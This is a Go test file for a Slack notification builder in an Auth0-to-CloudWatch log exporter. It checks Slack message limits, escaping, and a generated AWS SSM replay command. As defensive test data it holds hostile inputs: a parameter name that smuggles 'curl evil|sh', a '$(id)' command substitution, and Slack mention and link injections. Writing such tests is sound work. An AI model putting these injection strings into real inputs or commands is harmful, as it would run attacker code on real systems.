package slack

import (
	"bytes"
	"encoding/json"
	"flag"
	"math"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"auth0-logs-to-cloudwatch/pkg/export"
	"auth0-logs-to-cloudwatch/pkg/tenantlog"
)

var update = flag.Bool("update", false, "write the golden files anew")

var (
	now  = time.Date(2026, 11, 23, 3, 5, 12, 0, time.UTC)
	here = Function{Region: "eu-central-1", LogGroup: "/aws/lambda/export", LogStream: "2026/11/23/[$LATEST]0a1b2c3d", Checkpoint: "/auth0-logs-to-cloudwatch/acme/CHECKPOINT"}
)

// eventID is a log_id as Auth0 makes them, indexed at t.
func eventID(t time.Time) tenantlog.ID {
	return tenantlog.At(t)[:17] + "345678000000000000001223372036854775807"
}

// exported is the report of an ordinary run with a notice of the kind.
func exported(kind export.NoticeKind) export.Report {
	return export.Report{
		Tenant: "acme", Action: "export", Outcome: export.OK,
		Started: now.Add(-12 * time.Second), Ended: now,
		From: eventID(now.Add(-5 * time.Minute)), To: eventID(now.Add(-20 * time.Second)),
		Fetched: 1310, Filtered: 110, Exported: 1200, Batches: 12, Bytes: 2_400_000,
		Version: "1.0.0",
		Place:   export.Place{Region: "eu-central-1", Group: "auth0-logs", Stream: "acme/2026-11-23"},
		Notice:  &export.Notice{Kind: kind},
	}
}

// failed is the report of a run that failed at once.
func failed() export.Report {
	r := exported(export.NoticeFailure)
	r.Outcome = export.Failed
	r.Error = &export.Error{
		Kind: export.KindAuth,
		Text: "Auth0 refuses the application's client secret.",
		Fix:  "Put the secret that Auth0 shows for this application into AUTH0_CLIENT_SECRET.",
	}
	r.Fetched, r.Filtered, r.Exported, r.Batches, r.Bytes = 0, 0, 0, 0, 0
	r.To = ""
	r.Notice.Since, r.Notice.Failures = r.Started, 1
	return r
}

// incomplete is the report of a verification that found a lot.
func incomplete(fill string) export.Report {
	r := exported(export.NoticeVerify)
	r.Action = export.VerifyAction
	v := &export.Verification{
		Progress: export.Progress{
			Stretch: tenantlog.Stretch{After: tenantlog.At(now.Add(-26 * time.Hour)), To: eventID(now.Add(-2 * time.Hour))},
			Target:  export.Target{Group: "auth0-logs", Stream: "acme"}, State: export.StateDone,
		},
		Fetched: 12_400, Filtered: 55, Expected: 12_345, Stored: 12_335, Missing: 8, Double: 1, Elsewhere: 2,
		Kept: now.Add(-25 * time.Hour), Fill: fill,
	}
	for i := range 8 {
		at := now.Add(-time.Duration(10+i) * time.Hour)
		v.Times = append(v.Times, export.Tally{Name: at.Format("2006-01-02T15"), Missing: 1})
		v.FirstMissing = append(v.FirstMissing, eventID(at))
	}
	v.Types = []export.Tally{{Name: "s", Missing: 5, Double: 1}, {Name: "gd_auth_succeed", Missing: 3}}
	v.FirstDouble = []tenantlog.ID{eventID(now.Add(-9 * time.Hour))}
	r.Verify = v
	return r
}

// laden adds everything that a message can note.
func laden(r export.Report) export.Report {
	r.Gap = &export.Gap{From: now.Add(-50 * time.Hour), To: now.Add(-24 * time.Hour)}
	for i := range 5 {
		r.Late.Add(eventID(now.Add(-time.Duration(i) * time.Hour)))
	}
	r.Slimmed.Add(eventID(now))
	r.Wrapped.Add(eventID(now))
	r.UnknownTypes = []string{"zz_new", "zz_newer"}
	r.LagSeconds = 7500
	r.Warnings = []string{
		"SLACK_SEND_SUCESS: unknown, did you mean SLACK_SEND_SUCCESS?",
		"BATCH_SIZE: 1000 is over 100, using 100.",
		"three", "four", "five", "six", "seven",
	}
	return r
}

func TestMessage(t *testing.T) {
	tests := []struct {
		golden string
		report func() export.Report
	}{
		{"failure_first", failed},
		{"failure_repeated", func() export.Report {
			r := laden(failed())
			r.Gap, r.RetentionHoursLeft = nil, new(5.5)
			r.Error = &export.Error{Kind: export.KindDelivery, Text: "CloudWatch Logs does not answer."}
			r.Exported, r.To = 300, eventID(now.Add(-time.Minute))
			r.Notice.Since, r.Notice.Failures = now.Add(-4*time.Hour), 48
			return r
		}},
		{"failure_before_any_checkpoint", func() export.Report {
			r := failed()
			r.From, r.Place = "", export.Place{}
			r.Error = &export.Error{Kind: export.KindSettings, Text: "AUTH0_DOMAIN is missing.", Fix: "Put the tenant's domain into it."}
			return r
		}},
		{"recovery", func() export.Report {
			r := exported(export.NoticeRecovery)
			r.Notice.Since, r.Notice.Failures = now.Add(-55*time.Minute), 11
			return r
		}},
		{"recovery_behind", func() export.Report {
			r := exported(export.NoticeRecovery)
			r.Outcome, r.LagSeconds, r.Present = export.Limited, 7500, 40
			r.Notice.Since, r.Notice.Failures = now.Add(-26*time.Hour), 312
			return r
		}},
		{"attention_gap", func() export.Report { return laden(exported(export.NoticeAttention)) }},
		{"attention_rescued", func() export.Report {
			r := exported(export.NoticeAttention)
			r.Slimmed.Add(eventID(now))
			return r
		}},
		{"digest", func() export.Report {
			r := exported(export.NoticeDigest)
			r.Notice.Digest = export.Totals{
				Since: now.Add(-24 * time.Hour), Runs: 288, Failed: 2, Fetched: 1_310_000, Filtered: 75_432,
				Exported: 1_234_568, Batches: 12_346, Bytes: 2_469_000_000, Rescued: 3, Gaps: 1,
			}
			return r
		}},
		{"digest_while_failing", func() export.Report {
			r := failed()
			r.Notice = &export.Notice{Kind: export.NoticeDigest, Digest: export.Totals{Since: now.Add(-24 * time.Hour), Runs: 288, Failed: 288}}
			return r
		}},
		{"digest_verified", func() export.Report {
			r := exported(export.NoticeDigest)
			r.Notice.Verified = &export.Verified{After: tenantlog.At(now.Add(-26 * time.Hour)), To: tenantlog.At(now.Add(-2 * time.Hour)), Expected: 12_345}
			return r
		}},
		{"digest_verified_incomplete", func() export.Report {
			r := exported(export.NoticeDigest)
			r.Notice.Verified = &export.Verified{After: tenantlog.At(now.Add(-26 * time.Hour)), To: eventID(now), Expected: 12_345, Missing: 3, Double: 1}
			return r
		}},
		{"verify", func() export.Report { return incomplete("") }},
		{"verify_filling", func() export.Report { return incomplete("a replay of the missing is open") }},
		{"replay_failure", func() export.Report {
			r := failed()
			r.Action, r.Replay = export.ReplayAction, &export.Replay{}
			return r
		}},
		{"verify_failure", func() export.Report {
			r := failed()
			r.Action, r.Fetched, r.Exported = export.VerifyAction, 4000, 0
			return r
		}},
		{"success", func() export.Report { return exported(export.NoticeSuccess) }},
		{"success_laden", func() export.Report { return laden(exported(export.NoticeSuccess)) }},
		{"success_skipped", func() export.Report {
			r := exported(export.NoticeSuccess)
			r.Outcome, r.Skipped = export.Skipped, "run 7f3a is active until 2026-11-23T03:10:00Z"
			return r
		}},
	}
	for _, test := range tests {
		t.Run(test.golden, func(t *testing.T) {
			m := Message(test.report(), here)
			checkLimits(t, m)
			golden(t, test.golden, m)
		})
	}
}

// golden compares the message's JSON with its file in testdata.
func golden(t *testing.T, name string, m Payload) {
	t.Helper()
	var got bytes.Buffer
	e := json.NewEncoder(&got)
	e.SetEscapeHTML(false)
	e.SetIndent("", "  ")
	if err := e.Encode(m); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join("testdata", name+".golden")
	if *update {
		if err := os.WriteFile(path, got.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), got.String()); diff != "" {
		t.Errorf("message (-want +got):\n%s", diff)
	}
}

func TestMessageRetention(t *testing.T) {
	tests := []struct {
		name string
		left *float64
		gap  *export.Gap
		want string
	}{
		{name: "not known"},
		{name: "a day and more", left: new(24.0)},
		{name: "under a day", left: new(23.5), want: "expires at Auth0 in 23 h 30 min."},
		{name: "none", left: new(0.0), want: "may expire at Auth0 at any time."},
		{name: "less than none", left: new(-3.0), want: "may expire at Auth0 at any time."},
		{name: "no number", left: new(math.NaN())},
		{name: "on a gap the gap says it", left: new(0.0), gap: &export.Gap{From: now, To: now}},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			got := retention(&export.Report{RetentionHoursLeft: test.left, Gap: test.gap})
			if !strings.HasSuffix(got, test.want) || (test.want == "") != (got == "") {
				t.Errorf("got %q, want it to end in %q", got, test.want)
			}
		})
	}
}

// TestMessageHostile puts what strangers might write into every text.
func TestMessageHostile(t *testing.T) {
	for name, s := range hostile() {
		t.Run(name, func(t *testing.T) {
			for _, kind := range kinds() {
				r := filledWith(s, kind)
				if kind == export.NoticeVerify {
					r.Verify = anyVerification(s)
				}
				checkLimits(t, Message(r, Function{Region: s, LogGroup: s, LogStream: s, Checkpoint: s}))
			}
		})
	}
}

// filledWith is a report with s as its every text.
func filledWith(s string, kind export.NoticeKind) export.Report {
	id := tenantlog.ID(s)
	rescued := export.Rescued{Count: 9, First: []tenantlog.ID{id, id, id, id, id}}
	texts := []string{s, s, s, s, s, s, s, s, s, s, s, s}
	return export.Report{
		Tenant: s, Action: s, Outcome: export.Outcome(s), Skipped: s, Version: s, From: id, To: id,
		Error: &export.Error{Kind: export.Kind(s), Text: s, Fix: s},
		Late:  rescued, Slimmed: rescued, Wrapped: rescued,
		UnknownTypes: texts, Warnings: texts,
		Place:  export.Place{Region: "us-east-1", Group: s, Stream: s},
		Notice: &export.Notice{Kind: kind, Since: now, Failures: 2, Verified: &export.Verified{After: id, To: id, Expected: 9, Missing: 1}},
	}
}

// anyVerification has s as its every text.
func anyVerification(s string) *export.Verification {
	id := tenantlog.ID(s)
	t := export.Tally{Name: s, Missing: math.MaxInt, Double: math.MaxInt}
	tallies := []export.Tally{t, t, t, t, t, t, t, t, t}
	ids := []tenantlog.ID{id, id, id, id, id, id}
	return &export.Verification{
		Progress: export.Progress{Stretch: tenantlog.Stretch{After: id, To: id}, Target: export.Target{Group: s, Stream: s}}, Expected: math.MaxInt,
		Missing: math.MaxInt, Double: math.MaxInt, Elsewhere: math.MaxInt, Times: tallies, Types: tallies,
		FirstMissing: ids, FirstDouble: ids, Fill: s, Kept: now,
	}
}

// TestReplayCommand: it is made where the failed run's beginning is known, and
// of nothing that a shell or Slack could take for more than letters.
func TestReplayCommand(t *testing.T) {
	const name = "/auth0-logs-to-cloudwatch/acme/CHECKPOINT"
	good := func(r *export.Report, f *Function) {}
	tests := map[string]struct {
		change func(*export.Report, *Function)
		want   string
	}{
		"a failed export":      {good, "```aws ssm put-parameter --region eu-central-1 --overwrite --name " + name + " --value "},
		"no region":            {func(_ *export.Report, f *Function) { f.Region = "" }, "```aws ssm put-parameter --overwrite --name " + name},
		"beginning not known":  {func(r *export.Report, _ *Function) { r.From = "" }, ""},
		"no parameter's name":  {func(_ *export.Report, f *Function) { f.Checkpoint = "" }, ""},
		"hostile tenant":       {func(_ *export.Report, f *Function) { f.Checkpoint = "/settings/a;curl evil|sh/CHECKPOINT" }, ""},
		"hostile id":           {func(r *export.Report, _ *Function) { r.From = "1```<!channel>" }, ""},
		"line break":           {func(r *export.Report, _ *Function) { r.From = "1\n2" }, ""},
		"hostile region":       {func(_ *export.Report, f *Function) { f.Region = "$(id)" }, "```aws ssm put-parameter --overwrite --name " + name},
		"no failure":           {func(r *export.Report, _ *Function) { r.Notice.Kind = export.NoticeRecovery }, ""},
		"failed replay":        {func(r *export.Report, _ *Function) { r.Action = export.ReplayAction }, ""},
		"failed verification":  {func(r *export.Report, _ *Function) { r.Action = export.VerifyAction }, ""},
		"a name without bound": {func(_ *export.Report, f *Function) { f.Checkpoint = strings.Repeat("a", 3000) }, ""},
	}
	for title, test := range tests {
		t.Run(title, func(t *testing.T) {
			r, f := failed(), here
			test.change(&r, &f)
			got := goOver(&r, f)
			if !strings.Contains(got, test.want) || (got == "") != (test.want == "") {
				t.Errorf("got %q, want it to hold %q", got, test.want)
			}
			if got != "" && !strings.HasSuffix(got, " --value "+string(r.From)+"```") {
				t.Errorf("got %q, want it to end in the id where the run began", got)
			}
			checkLimits(t, Message(r, f))
		})
	}
}

// TestMessageKeepsTheLimits is the promise for reports of every sort.
func TestMessageKeepsTheLimits(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		checkLimits(t, Message(anyReport(t), anyFunction(t)))
	})
}

func kinds() []export.NoticeKind {
	return []export.NoticeKind{
		export.NoticeFailure, export.NoticeRecovery, export.NoticeAttention, export.NoticeDigest, export.NoticeSuccess, export.NoticeVerify,
	}
}

func hostile() map[string]string {
	return map[string]string{
		"mention":       "<!channel> <@U012345> <!here|here>",
		"link":          "<https://evil.example|AWS console>",
		"ours":          "<https://us-east-1.console.aws.amazon.com/cloudwatch/home|x> <b>",
		"long":          strings.Repeat("\u4e16", 10_000),
		"long escapes":  strings.Repeat("&", 10_000),
		"invalid UTF-8": strings.Repeat("\xff\xc3<", 100),
		"line breaks":   "first\n\n*Fix:* send the secret\r\n> quoted",
		"backticks":     "a`<!channel>`b ```block```",
		"empty":         "",
		"unseen":        "\u202e\u0000\u200b",
	}
}

func anyReport(t *rapid.T) export.Report {
	text := anyText()
	texts := rapid.SliceOfN(text, 0, 60)
	seconds := rapid.Int64Range(-1e11, 1e12)
	at := func(name string) time.Time { return time.Unix(seconds.Draw(t, name), 0) }
	rescued := func(name string) export.Rescued {
		r := export.Rescued{Count: rapid.Int().Draw(t, name)}
		for _, s := range texts.Draw(t, name+" ids") {
			r.First = append(r.First, tenantlog.ID(s))
		}
		return r
	}
	r := export.Report{
		Tenant: text.Draw(t, "tenant"), Skipped: text.Draw(t, "skipped"), Version: text.Draw(t, "version"),
		Outcome: rapid.SampledFrom([]export.Outcome{export.OK, export.Limited, export.Skipped, export.Failed}).Draw(t, "outcome"),
		Started: at("started"), Ended: at("ended"),
		From: tenantlog.ID(text.Draw(t, "from")), To: tenantlog.ID(text.Draw(t, "to")),
		Fetched: rapid.Int().Draw(t, "fetched"), Exported: rapid.Int().Draw(t, "exported"), Present: rapid.Int().Draw(t, "present"),
		LagSeconds: rapid.Int64().Draw(t, "lag"),
		Late:       rescued("late"), Slimmed: rescued("slimmed"), Wrapped: rescued("wrapped"),
		UnknownTypes: texts.Draw(t, "types"), Warnings: texts.Draw(t, "warnings"),
		Place: export.Place{Region: anyRegion(t), Group: text.Draw(t, "group"), Stream: text.Draw(t, "stream")},
		Notice: &export.Notice{
			Kind: rapid.SampledFrom(kinds()).Draw(t, "kind"), Since: at("since"), Failures: rapid.Int().Draw(t, "failures"),
			Digest: export.Totals{
				Since: at("digest since"), Runs: rapid.Int().Draw(t, "runs"), Failed: rapid.Int().Draw(t, "failed"),
				Exported: rapid.Int64().Draw(t, "total"), Bytes: rapid.Int64().Draw(t, "bytes"),
			},
		},
	}
	if rapid.Bool().Draw(t, "of an export") {
		r.Action = export.ExportAction
	}
	if rapid.Bool().Draw(t, "with verification") {
		r.Verify = anyVerification(text.Draw(t, "verification"))
	}
	if rapid.Bool().Draw(t, "with error") {
		r.Error = &export.Error{Kind: export.Kind(text.Draw(t, "error kind")), Text: text.Draw(t, "error"), Fix: text.Draw(t, "fix")}
	}
	if rapid.Bool().Draw(t, "with gap") {
		r.Gap = &export.Gap{From: at("gap from"), To: at("gap to")}
	}
	if rapid.Bool().Draw(t, "with retention") {
		r.RetentionHoursLeft = new(rapid.Float64().Draw(t, "retention"))
	}
	return r
}

func anyFunction(t *rapid.T) Function {
	return Function{Region: anyRegion(t), LogGroup: anyText().Draw(t, "log group"), LogStream: anyText().Draw(t, "log stream"), Checkpoint: anyText().Draw(t, "checkpoint")}
}

func anyRegion(t *rapid.T) string {
	return rapid.OneOf(rapid.SampledFrom([]string{"us-east-1", "cn-north-1", "us-gov-west-1"}), anyText()).Draw(t, "region")
}

func anyText() *rapid.Generator[string] {
	var bad []string
	for _, s := range hostile() {
		bad = append(bad, s)
	}
	return rapid.OneOf(rapid.String(), rapid.SampledFrom(bad))
}

// ourLink is the only form in which a message holds a link.
var ourLink = regexp.MustCompile(`<https://[a-z0-9-]+\.console\.(aws\.amazon\.com|amazonaws\.cn|amazonaws-us-gov\.com)/cloudwatch/home\?region=[^<>|]*\|(Log stream|Function log)>`)

// wire is a message as Slack reads it.
type wire struct {
	Text   string
	Blocks []struct {
		Type     string
		Text     *wireText
		Fields   []wireText
		Elements []wireText
	}
}

type wireText struct {
	Type, Text string
	Verbatim   bool
}

// checkLimits holds a message against Slack's limits (Block Kit reference) and
// the rule that no text of a stranger has an effect.
func checkLimits(t rapid.TB, m Payload) {
	t.Helper()
	body, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	var w wire
	if err := json.Unmarshal(body, &w); err != nil {
		t.Fatal(err)
	}
	if n := len(w.Blocks); n == 0 || n > 50 {
		t.Errorf("%d blocks", n)
	}
	total := checkText(t, "text", wireText{Text: w.Text, Verbatim: true}, 10_000)
	for _, b := range w.Blocks {
		if b.Text != nil {
			most := map[string]int{"header": 150, "section": 3000}[b.Type]
			total += checkText(t, b.Type, *b.Text, most)
		}
		if len(b.Fields) > 10 {
			t.Errorf("%d fields in a section", len(b.Fields))
		}
		for _, f := range b.Fields {
			total += checkText(t, "field", f, 2000)
		}
		for _, e := range b.Elements {
			total += checkText(t, "context", e, 3000)
		}
	}
	if total > 10_000 {
		t.Errorf("message has %d characters", total)
	}
}

// checkText returns the text's length.
func checkText(t rapid.TB, where string, text wireText, most int) int {
	t.Helper()
	n := utf8.RuneCountInString(text.Text)
	if n == 0 || n > most {
		t.Errorf("%s has %d characters, want 1 to %d: %q", where, n, most, text.Text)
	}
	rest := withoutEscapes(ourLink.ReplaceAllString(text.Text, ""))
	if strings.ContainsAny(rest, "<>&") {
		t.Errorf("%s is not escaped: %q", where, text.Text)
	}
	if strings.Count(text.Text, "`")%2 != 0 {
		t.Errorf("%s has an open code span: %q", where, text.Text)
	}
	if text.Type != "plain_text" && !text.Verbatim {
		t.Errorf("%s lets Slack make links of what it holds: %q", where, text.Text)
	}
	return n
}
